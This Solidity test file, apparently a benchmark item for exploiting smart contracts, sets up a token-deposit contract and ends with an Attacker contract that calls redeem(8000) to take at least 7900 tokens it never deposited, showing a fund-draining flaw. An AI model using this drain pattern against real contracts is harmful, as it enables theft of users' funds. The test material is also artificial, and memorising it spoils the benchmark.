pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./DollarAccounts.sol";

// assay-canary-7baef69b-a917-47f4-b021-b779bdf10ee0

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Dollar is ERC20 {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x09E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Dollar public dollar;
    DollarAccounts private accounts;
    Attacker private mallory;

    function setUp() public {
        dollar = new Dollar();
        vm.prank(OWNER);
        accounts = new DollarAccounts(dollar, 0.001e18);
        dollar.mint(ANA, 10000);
        vm.startPrank(ANA);
        dollar.approve(address(accounts), 10000);
        accounts.supply(ANA, 6000);
        accounts.supply(BEN, 2000);
        vm.stopPrank();
        mallory = new Attacker(accounts);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        accounts.redeem(1000);
        require(dollar.balanceOf(ANA) == 2999 && accounts.totalReserves() == 1, "redeemed");
        accounts.move(BEN, 3000);
        require(accounts.redeemUpTo(500) == 500 && accounts.redeemUpTo(5000) == 1500, "up to");
        vm.stopPrank();
        require(accounts.accountBalances(ANA) == 0 && accounts.accountBalances(BEN) == 5000, "moved");
        require(dollar.balanceOf(ANA) == 4998 && accounts.totalBalances() == 5000, "sums");
        vm.startPrank(OWNER);
        accounts.setRedeemFee(0.01e18);
        accounts.reduceReserves(2);
        vm.stopPrank();
        require(dollar.balanceOf(OWNER) == 2 && accounts.totalReserves() == 0, "reduced");
        vm.prank(BEN);
        accounts.redeem(5000);
        require(dollar.balanceOf(BEN) == 4950 && accounts.totalBalances() == 0, "the rest");
        vm.prank(OWNER);
        accounts.transferOwnership(ANA);
        vm.prank(ANA);
        accounts.renounceOwnership();
    }

    function test_RefusesHolders() public {
        vm.startPrank(ANA);
        vm.expectRevert("supply: account is zero");
        accounts.supply(address(0), 1);
        vm.expectRevert("move: account is zero");
        accounts.move(address(0), 1);
        vm.expectRevert("SafeMath: subtraction overflow");
        accounts.move(BEN, 6001);
        vm.expectRevert("SafeMath: subtraction overflow");
        accounts.redeem(8001);
        vm.expectRevert("Ownable: caller is not the owner");
        accounts.reduceReserves(0);
        vm.expectRevert("Ownable: caller is not the owner");
        accounts.setRedeemFee(0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert();
        accounts.supply(BEN, 1);
    }

    function test_RefusesOwners() public {
        vm.startPrank(OWNER);
        vm.expectRevert("constructor: dollar is zero");
        new DollarAccounts(IERC20(address(0)), 0);
        vm.expectRevert("setRedeemFee: fee is too high");
        new DollarAccounts(dollar, 0.01e18 + 1);
        vm.expectRevert("setRedeemFee: fee is too high");
        accounts.setRedeemFee(0.01e18 + 1);
        vm.expectRevert("reduceReserves: amount exceeds the reserves");
        accounts.reduceReserves(1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mallory)) >= 7900, "nothing gained");
    }

    function target() public view returns (address) {
        return address(accounts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DollarAccounts private accounts;

    constructor(DollarAccounts accounts_) public {
        accounts = accounts_;
    }

    function run() external {
        accounts.redeem(8000);
    }
}
